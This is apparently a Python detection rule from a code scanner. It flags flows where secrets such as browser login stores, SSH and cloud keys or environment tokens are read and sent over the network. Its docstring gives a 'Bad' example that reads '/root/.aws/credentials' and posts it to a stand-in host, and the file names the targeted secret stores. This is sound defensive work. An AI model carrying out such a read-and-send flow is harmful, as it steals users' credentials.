"""Secrets are read and leave the machine.

Browser stores (`Login Data`, `Cookies`, `Local State`, `key4.db`), SSH and cloud keys, hub tokens,
`.netrc`, environment variables that hold tokens: read on load, and handed to a request, a chat
webhook or a socket.

Bad:

    %0 = name builtins.open
    %1 = const '/root/.aws/credentials'
    %2 = call %0, %1
    %3 = attr %2, read
    %4 = call %3
    %5 = name requests.post
    %6 = const 'https://example.org/in'
    %7 = call %5, %6, data=%4

Good:

    %0 = name os.environ
    %1 = const 'HF_TOKEN'
    %2 = item %0, %1
    %3 = name datasets.load_dataset
    %4 = const 'owner/private'
    %5 = call %3, %4, token=%2
"""

from collections.abc import Iterator

from scanner.facts import Effect, Facts
from scanner.finding import Behaviour, Finding, Precision, Rule, Severity
from scanner.rules._report import along, finding, together

RULE = Rule(
    id="credential-theft",
    title="Secrets are read and sent away",
    severity=Severity.ERROR,
    precision=Precision.HIGH,
    security_severity=9.5,
    cwe=(506, 522, 200),
    attack=("T1555", "T1552", "T1041"),
    atlas=("AML.T0055", "AML.T0025"),
    specificity=75,
)

SENDS = ("net.send", "net.request", "net.connect", "message.send", "hub.upload")
PICK = "os.environ.__contains__"  # a comparison of variables' names with those of secrets
STORES = frozenset({"secret-path"})


def check(facts: Facts) -> Iterator[Finding]:
    """A flow from a secret to the network, or a secret store opened beside a way out."""
    found = False
    for flow in facts.flowing({"secret.read"}, SENDS):
        if flow.effect.script and _authenticates(flow.effect, flow.argument):
            continue
        found = True
        deed = "reads secrets and sends them away"
        yield finding(RULE, flow.effect, deed, Behaviour.CREDENTIAL_THEFT, steps=along(flow))
    picks = [e for e in facts.running("env.read") if e.callee == PICK]
    for flow in facts.flowing({"env.read"}, SENDS) if picks and not found else ():
        named = flow.argument in ("0", "url") or _authenticates(flow.effect, flow.argument)
        if flow.effect.script and named:
            continue
        found = True
        deed = "picks secrets out of the environment and sends them away"
        steps = tuple(dict.fromkeys((*together(picks[:1]), *along(flow))))
        yield finding(RULE, flow.effect, deed, Behaviour.CREDENTIAL_THEFT, steps=steps)
    ways_out = list(facts.running("net.send", "message.send", "hub.upload"))
    ways_out += [e for e in facts.running("net.request") if len(e.arguments) > 1]
    for effect in facts.running():
        if not found and ways_out and steals(effect):
            found = True
            deed = "reads secrets and has a way to send them"
            steps = together([effect, ways_out[-1]])
            yield finding(RULE, ways_out[-1], deed, Behaviour.CREDENTIAL_THEFT, steps=steps)


def steals(effect: Effect) -> bool:
    """Whether the effect takes from a store of secrets, or is a command that sends one by its path."""
    if effect.callee.startswith("shell.") and effect.kind in SENDS:
        sent = [a for a in effect.arguments if a.name in ("data", "stdin")]
        return any(i.kind in STORES for a in sent for i in a.indicators)
    if effect.kind == "secret.read":
        return not effect.script or effect.callee != "os.environ"
    return effect.kind in ("file.read", "file.move", "database.query") and bool(effect.indicators & STORES)


def _authenticates(effect: Effect, argument: str) -> bool:
    """A token in a header is how a script logs in to the service that the token is for."""
    return argument in ("headers", "auth", "token", "use_auth_token") or effect.kind == "hub.upload"
